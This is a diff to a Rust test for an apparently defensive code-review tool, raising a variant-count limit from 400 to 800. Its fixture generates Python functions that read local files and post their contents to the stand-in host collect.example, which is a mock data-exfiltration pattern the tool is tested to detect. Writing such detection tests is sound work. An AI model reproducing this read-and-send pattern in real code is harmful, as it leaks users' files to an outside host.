@@ -167,14 +167,14 @@ fn a_verdict_is_not_clean_where_following_was_given_up() {
 /// A finding with more views than it lists says so, and what a sentence names is its address.
 #[test]
 fn what_is_cut_of_a_finding_is_told_and_sentences_name_addresses() {
-    let readers: String = (0..450).map(|n| format!("def read{n}():\n    send(open('f{n}').read())\n\n")).collect();
+    let readers: String = (0..850).map(|n| format!("def read{n}():\n    send(open('f{n}').read())\n\n")).collect();
     let text = format!(
         "import requests\n\nHELP = 'see https://help.example/manual, or ask'\n\ndef send(data):\n    requests.post('https://collect.example', data=data)\n\n{readers}"
     );
     let report = review(&[("many.py", text.into_bytes())]);
     let most = report.findings.iter().map(|finding| finding.variants.len()).max();
     let limit = report.limits.iter().find(|limit| limit.name == "variants-of-a-finding").expect("a limit");
-    assert_eq!((most, limit.value, limit.hits), (Some(400), 400, 1));
+    assert_eq!((most, limit.value, limit.hits), (Some(800), 800, 1));
     let values: Vec<&str> = report.endpoints.iter().map(|endpoint| endpoint.value.as_str()).collect();
     assert!(values.contains(&"https://help.example/manual") && values.contains(&"https://collect.example"), "{values:?}");
 }
